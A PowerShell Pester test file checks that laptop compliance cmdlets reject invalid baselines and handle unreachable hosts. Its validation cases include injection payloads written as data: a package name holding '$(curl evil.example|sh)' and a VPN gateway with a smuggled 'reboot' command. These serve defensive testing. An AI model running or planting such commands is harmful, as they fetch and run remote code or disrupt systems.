#requires -Version 7.2
# The laptop compliance cmdlets without a lab: baselines refused before any laptop is contacted,
# the example baselines, and laptops that cannot be reached (a closed loopback port).

BeforeAll {
    Import-Module $env:REMOTEOPS_MODULE_PATH -Force

    # A loopback port nobody listens on: bound, then released.
    $listener = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
    $listener.Start()
    $script:ClosedPort = $listener.LocalEndpoint.Port
    $listener.Stop()

    $script:Common = @{
        UserName          = 'ops'
        KnownHostsPath    = (Join-Path $TestDrive 'known_hosts')
        AuditLogPath      = (Join-Path $TestDrive 'audit.jsonl')
        ConnectTimeoutSec = 5
    }
    $script:Examples = Join-Path $env:REMOTEOPS_REPO_ROOT 'examples'
}

Describe 'Laptop baselines' -Tag 'CI' {
    It 'reads the example baseline <_>' -ForEach @('laptop-baseline.psd1', 'laptop-baseline.json') {
        $r = @(Test-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline (Join-Path $Examples $_) @Common -ErrorAction SilentlyContinue)
        $r.Check | Should -Be @('DiskEncryption', 'UsbStorage', 'VpnProfile', 'HostFirewall', 'AutomaticSecurityUpdates', 'SshHardening', 'ScreenLock', 'RequiredPackages', 'ForbiddenPackages')
        ($r | Where-Object Check -eq UsbStorage).Expected | Should -Match '0951:1666 serial 60A44C413E4FF0A0'
    }

    It 'refuses <Case> with LaptopBaselineInvalid before contacting any laptop' -ForEach @(
        @{ Case = 'command substitution in a package name'; Baseline = @{ RequiredPackages = @('vim', '$(curl evil.example|sh)') }; Message = "*requiredPackages``[2``]: '`$(curl evil.example|sh)' is not a Debian package name*" }
        @{ Case = 'a network with host bits'; Baseline = @{ HostFirewall = @{ ManagementNetwork = '10.20.1.1/16' } }; Message = "*'10.20.1.1/16' has host bits set; the network is 10.20.0.0/16*" }
        @{ Case = 'a USB product id too long'; Baseline = @{ UsbStorage = @{ Allowed = @(@{ VendorId = '0951'; ProductId = '16660' }) } }; Message = "*usbStorage.allowed``[1``].productId: '16660' is not a USB id*" }
        @{ Case = 'a gateway with shell syntax'; Baseline = @{ VpnProfile = @{ Name = 'Corp'; Gateway = 'vpn.example.com`reboot`' } }; Message = "*vpnProfile.gateway*is not a VPN gateway*" }
        @{ Case = 'an unknown key'; Baseline = @{ ScreenLok = @{ Required = $true } }; Message = '*unknown key "ScreenLok" in the top level*' }
    ) {
        $before = Get-Date
        { Test-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline $Baseline @Common } |
            Should -Throw -ErrorId 'LaptopBaselineInvalid,RemoteOps.Commands.TestRoLaptopComplianceCommand' -ExpectedMessage $Message
        { Repair-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline $Baseline @Common -Confirm:$false } |
            Should -Throw -ErrorId 'LaptopBaselineInvalid,RemoteOps.Commands.RepairRoLaptopComplianceCommand'
        Test-Path $Common.AuditLogPath | Should -BeFalse
    }

    It 'says what a missing baseline file and a wrong -Baseline type are' {
        { Test-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline (Join-Path $TestDrive 'nope.json') @Common } |
            Should -Throw -ErrorId 'LaptopBaselineUnreadable,RemoteOps.Commands.TestRoLaptopComplianceCommand' -ExpectedMessage '*nope.json*does not exist*'
        { Test-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline 42 @Common } |
            Should -Throw -ExpectedMessage '*-Baseline must be the path of a baseline file*not Int32*'
    }
}

Describe 'Laptops that cannot be reached' -Tag 'CI' {
    It 'gives an Error result per check and one error per laptop' {
        $baseline = @{ SshHardening = @{ NoRootLogin = $true }; ForbiddenPackages = @('telnetd') }
        $r = @(Test-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort", "ops@127.0.0.1:$ClosedPort" -Baseline $baseline @Common -ErrorAction SilentlyContinue -ErrorVariable failed)
        $r.Count | Should -Be 4
        $r | ForEach-Object {
            $_.Compliance | Should -Be 'Error'
            $_.Status | Should -Be 'Unreachable'
            $_.CanRepair | Should -BeFalse
            $_.ErrorRecord.FullyQualifiedErrorId | Should -BeLike 'HostUnreachable*'
        }
        $failed.Count | Should -Be 2
        $failed[0].CategoryInfo.Category | Should -Be 'ConnectionError'
    }

    It 'repairs nothing there and says so' {
        $r = @(Repair-RoLaptopCompliance -ComputerName "127.0.0.1:$ClosedPort" -Baseline @{ SshHardening = @{} } @Common -Confirm:$false -ErrorAction SilentlyContinue)
        $r.Outcome | Should -Be 'NotChecked'
        $r.Status | Should -Be 'Unreachable'
        @(Get-Content $Common.AuditLogPath -ErrorAction SilentlyContinue | Where-Object { $_ }).Count | Should -Be 0
    }
}
